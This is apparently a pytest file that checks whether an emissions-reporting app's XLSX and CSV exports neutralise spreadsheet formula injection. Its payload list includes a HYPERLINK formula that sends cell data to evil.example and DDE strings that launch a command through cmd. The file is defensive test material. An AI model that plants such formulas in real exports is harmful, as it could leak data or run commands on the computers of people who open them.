"""Formula injection: text from users never becomes a live formula in an MRV export.

Record ids, comments, adjustment reasons and organisation names starting with ``=``,
``+``, ``-`` or ``@`` are written as text: the XLSX read back with openpyxl has no formula
cell, and every such CSV cell is prefixed with an apostrophe (OWASP).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from greencircle.auth.models import Organisation
from greencircle.mrv.report_export import NUMBER_COLUMNS
from greencircle.storage.engine import unit_of_work

PAYLOADS = {
    "eq": '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HEADER = "record_id,facility_id,period,category,item,quantity,unit,direction\n"
CN_ETS_2022 = Decimal("0.5703")  # tCO2/MWh, used for 2025 (latest earlier year)
TRIGGERS = ("=", "+", "-", "@")


def _csv_line(record_id: str, month: int) -> str:
    quoted = '"' + record_id.replace('"', '""') + '"'
    return f"{quoted},CQ-CHE-01-F1,2025-{month:02d},fuel,diesel,1,t,\n"


def test_exports_neutralise_formulas(api):
    cq = api.org_id("CQ-CHE-01")
    with unit_of_work(api.client.app.state.session_factory) as s:
        org = s.get(Organisation, cq)
        org.name_en = "=1+1 Chemicals"
        org.name_zh = "@化工"
    content = HEADER + "".join(_csv_line(p, m) for m, p in enumerate(PAYLOADS.values(), start=1))
    content += "sold,CQ-CHE-01-F1,2025-06,electricity,CN-ETS,10,MWh,exported\n"
    r = api.client.post(
        f"/v1/mrv/uploads?org_id={cq}",
        headers=api.auth("cq-che-01"),
        files={"file": ("inj.csv", content.encode(), "text/csv")},
    )
    assert r.status_code == 201, r.text
    rid = api.post("/v1/mrv/reports", "cq-che-01", json={"org_id": cq, "year": 2025}).json()["id"]
    sub = api.post(f"/v1/mrv/reports/{rid}/submit", "cq-che-01", json={"comment": "=2*3"})
    assert sub.status_code == 200
    ver = api.org_id("VER-CQ-01")
    api.post(f"/v1/mrv/reports/{rid}/assign", "cq-eeb", json={"verifier_org_id": ver})
    adj = api.post(
        f"/v1/mrv/reports/{rid}/adjust",
        "ver-cq-01",
        json={"record_id": PAYLOADS["minus"], "changes": {"quantity": "2"}, "reason": "-1+1"},
    )
    assert adj.status_code == 200, adj.text

    xl = api.get(f"/v1/mrv/reports/{rid}/export?format=xlsx", "cq-eeb")
    assert xl.status_code == 200
    wb = load_workbook(io.BytesIO(xl.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in (*PAYLOADS.values(), "=2*3", "-1+1"):
        assert "'" + payload in texts, payload
    assert not any(t.startswith(("=", "+", "@")) for t in texts)
    negative = {Decimal(t) for t in texts if t.startswith("-")}
    assert negative == {-10 * CN_ETS_2022}  # exported electricity: a number, not a formula
    assert any(t.startswith("'@化工 / =1+1 Chemicals") for t in texts)

    exp = api.get(f"/v1/mrv/reports/{rid}/export?format=csv", "cq-eeb")
    rows = list(csv.reader(io.StringIO(exp.content.decode("utf-8-sig"))))
    ids = [r[0] for r in rows[1:]]
    assert sorted(ids[:-1]) == sorted(["sold", *("'" + p for p in PAYLOADS.values())])
    numeric = {i for i, c in enumerate(rows[0]) if c in NUMBER_COLUMNS}
    assert not any(
        cell.startswith(TRIGGERS) for r in rows for i, cell in enumerate(r) if i not in numeric
    )
    # numbers stay exact and unprefixed: exported electricity counts negative
    sold = next(r for r in rows if r[0] == "sold")
    assert Decimal(sold[rows[0].index("emissions_tco2")]) == -10 * CN_ETS_2022
    reasons = [r[rows[0].index("adjustment_reason")] for r in rows[1:]]
    assert "'-1+1" in reasons
